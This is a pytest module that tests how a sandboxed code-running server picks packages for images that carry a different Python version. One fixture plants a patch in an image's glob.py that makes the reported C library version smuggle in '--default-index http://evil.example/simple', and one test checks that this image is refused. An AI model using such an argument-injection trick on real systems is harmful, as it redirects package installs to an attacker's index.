"""Images with another Python than this server's: their runs get packages that were built for it."""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from skillyard import SyncRuntime
from skillyard.config.settings import load_settings
from skillyard.domain.errors import InvalidInput
from skillyard.stores.disk import remove_tree
from tests.conformance.sandbox import oci_ground, opensandbox_ground
from tests.hosts.docker_engine import Docker
from tests.unit.engine.packages.fake_builder import pack
from tests.unit.engine.packages.index import Index

pytestmark = pytest.mark.timeout(600)

IMAGE = "skillyard-tests/other:1"
OURS = sys.version_info[:2]
VERSIONS = (*range(9, 16),)
LEFT_OUT = {"include", "share", "test", "__pycache__", "idlelib", "ensurepip", "site-packages"}
"""Directories of an installation that no image needs."""
_EXTENSION = """
#include <Python.h>
static PyObject *version(PyObject *self, PyObject *none) { return PyUnicode_FromString(PY_VERSION); }
static PyMethodDef methods[] = {{"version", version, METH_NOARGS, ""}, {0}};
static PyModuleDef module = {PyModuleDef_HEAD_INIT, "core", "", -1, methods};
PyMODINIT_FUNC PyInit_core(void) { return PyModule_Create(&module); }
"""
LOOK = """
def main(args):
    import importlib, sys
    found = importlib.import_module(args["module"])
    told = found.version() if hasattr(found, "version") else found.VERSION
    return {"told": told, "python": list(sys.version_info[:2]), "at": found.__file__}
"""
LIE = b'\nimport os\nos.confstr = lambda name: "glibc 2.36 --default-index http://evil.example/simple"\n'


class Other:
    """Another CPython of this machine."""

    def __init__(self, program: Path) -> None:
        asked = "import sys, sysconfig as s; print(sys.version_info[1], sys.base_prefix, s.get_path('include'))"
        told = subprocess.run([program, "-I", "-c", asked], capture_output=True, text=True, check=True, timeout=60)
        minor, self.prefix, self.include = told.stdout.split()
        self.version = (3, int(minor))
        self.tag = f"cp3{minor}"

    def __str__(self) -> str:
        return ".".join(map(str, self.version))


def found() -> Other | None:
    """Returns the newest other Python that can compile, from the path or from pyenv."""
    named = [shutil.which(f"python3.{minor}") for minor in VERSIONS]
    programs = [Path(name) for name in named if name and "/shims/" not in name]
    programs += Path("~/.pyenv/versions").expanduser().glob("3.*/bin/python3")
    others = [Other(program) for program in programs]
    fitting = [
        other for other in others if other.version >= (3, 9) and other.version != OURS and Path(other.include).is_dir()
    ]
    return max(fitting, key=lambda other: other.version, default=None)


def layer(other: Other, base: str) -> bytes:
    """The context of an image with the installation at its own place."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as files:
        for directory, names, found in os.walk(other.prefix):
            names[:] = [name for name in names if name not in LEFT_OUT and not name.startswith("config-")]
            for name in found:
                if not name.endswith(".a"):
                    path = os.path.join(directory, name)
                    files.add(path, path.lstrip("/"))
    path = f"ENV PATH={other.prefix}/bin:/usr/bin:/bin"
    return pack({"Dockerfile": f"FROM {base}\nADD p.tar /\n{path}\n".encode(), "p.tar": packed.getvalue()})


def lying(other: Other) -> bytes:
    """The context of an image whose interpreter tells a command line in the place of its C library."""
    place = Path(other.prefix, "lib", f"python{other}", "glob.py")
    lie = place.read_bytes() + LIE
    return pack({"Dockerfile": f"FROM {IMAGE}\nCOPY glob.py {place}\n".encode(), "glob.py": lie})


def compiled(other: Other, scratch: Path) -> dict[str, bytes]:
    """An extension module for the other Python, by the name that only that one imports."""
    source, made = scratch / "compiled.c", scratch / "compiled.so"
    source.write_text(_EXTENSION)
    subprocess.run(["cc", "-shared", "-fPIC", f"-I{other.include}", "-o", made, source], check=True, timeout=60)
    return {f"compiled/core.cpython-3{other.version[1]}-{os.uname().machine}-linux-gnu.so": made.read_bytes()}


@pytest.fixture(scope="module")
def other() -> Other:
    other = found()
    if other is None or shutil.which("cc") is None:
        pytest.skip("this machine has no other Python with its headers, or no compiler")
    return other


@pytest.fixture(scope="module")
def index(other: Other, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Index]:
    machine, init = os.uname().machine, b"from compiled.core import version\n"
    with Index(host="index.test") as index:
        files = {"compiled/__init__.py": init, **compiled(other, tmp_path_factory.mktemp("c"))}
        index.add("compiled", files=files, tag=f"{other.tag}-{other.tag}-manylinux_2_17_{machine}")
        for tag in (f"cp3{OURS[1]}", other.tag):
            index.add(
                "tagged",
                files={"tagged/__init__.py": f"VERSION = '{tag}'\n".encode()},
                tag=f"{tag}-{tag}-manylinux_2_17_{machine}",
            )
        index.add("ours", tag=f"cp3{OURS[1]}-cp3{OURS[1]}-manylinux_2_17_{machine}")
        index.put("unbuilt-1.0.tar.gz", b"no archive")
        yield index


@contextmanager
def containers(scratch: Path) -> Iterator[tuple[Docker, str, dict[str, Any]]]:
    with oci_ground.engine(scratch) as (docker, settings):
        yield docker, oci_ground.IMAGE, settings.changed(image=IMAGE).model_dump()


@contextmanager
def remote(scratch: Path) -> Iterator[tuple[Docker, str, dict[str, Any]]]:
    with opensandbox_ground.open_sandbox(scratch) as found:
        yield found.docker, oci_ground.BASE, found.settings(image=IMAGE).model_dump()


@pytest.fixture(scope="module", params=[("oci", containers), ("opensandbox", remote)], ids=lambda param: param[0])
def runtime(
    request: pytest.FixtureRequest, other: Other, index: Index, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[SyncRuntime]:
    """A server whose default isolation makes sandboxes of an image with the other Python."""
    name, ground = request.param
    scratch = tmp_path_factory.mktemp("e")
    scratch.chmod(0o755)
    with ground(scratch) as (docker, base, settings):
        docker("build", "-q", "-t", IMAGE, "-", stdin=layer(other, base))
        liar = docker("build", "-q", "-", stdin=lying(other)).stdout.strip()
        given = {
            "policy": {"isolation": name, "isolations": ["native"], "images": [liar]},
            name: settings,
            "network": {"hosts": {"index.test": ["127.0.0.1"]}},
            "packages": {"run_code": ["*"], "index": index.url, "source": ["unbuilt"]},
        }
        with SyncRuntime(settings=load_settings(data_dir=scratch / "server", **given)) as runtime:
            yield runtime
        remove_tree(scratch / "server")


def run(runtime: SyncRuntime, package: str, **more: Any) -> dict[str, Any]:
    done = runtime.run_code(LOOK, {"module": package}, packages=[package], **more)
    output: dict[str, Any] = done.raise_for_status().output
    return output


def test_a_compiled_extension_is_imported(runtime: SyncRuntime, other: Other) -> None:
    told = run(runtime, "compiled")
    assert told["python"] == [*other.version]
    assert told["told"].startswith(str(other))
    shown = runtime.show_environment(packages=["compiled"])["environment"]
    assert shown["platform"].startswith(f"cpython-{other}-{os.uname().machine}-manylinux_2_")
    files = runtime.settings.data_dir / "environments" / shown["digest"]
    assert not list(files.rglob("*.pyc")), "bytecode would be that of another Python"


def test_each_isolation_gets_its_own(runtime: SyncRuntime, other: Other) -> None:
    theirs, ours = run(runtime, "tagged"), run(runtime, "tagged", isolation="native")
    assert (theirs["told"], theirs["python"]) == (other.tag, [*other.version])
    assert (ours["told"], ours["python"]) == (f"cp3{OURS[1]}", [*OURS])
    listed = runtime.call("environments.list", {})["environments"]
    assert len({one["platform"] for one in listed if one["requirements"] == ["tagged"]}) == 2


@pytest.mark.parametrize(
    ("package", "said"),
    [
        ("ours", "'ours' has no wheel for Python {other} on "),
        ("unbuilt", "only a source distribution, and only wheels are taken for Python {other} on "),
    ],
)
def test_what_has_no_wheel_for_it_is_refused(runtime: SyncRuntime, other: Other, package: str, said: str) -> None:
    done = runtime.run_code(LOOK, {"module": package}, packages=[package])
    assert done.error is not None
    assert said.format(other=other) in done.error["message"]
    assert "packages.source" not in done.error["message"]


def test_an_image_that_tells_a_command_line_is_refused(runtime: SyncRuntime) -> None:
    [image] = runtime.settings.policy.images
    with pytest.raises(InvalidInput, match=r"packages: are had for CPython 3 on .*; use an image with one of these"):
        run(runtime, "tagged", image=image)
    assert runtime.run_code("def main(args): return 1", image=image).ok
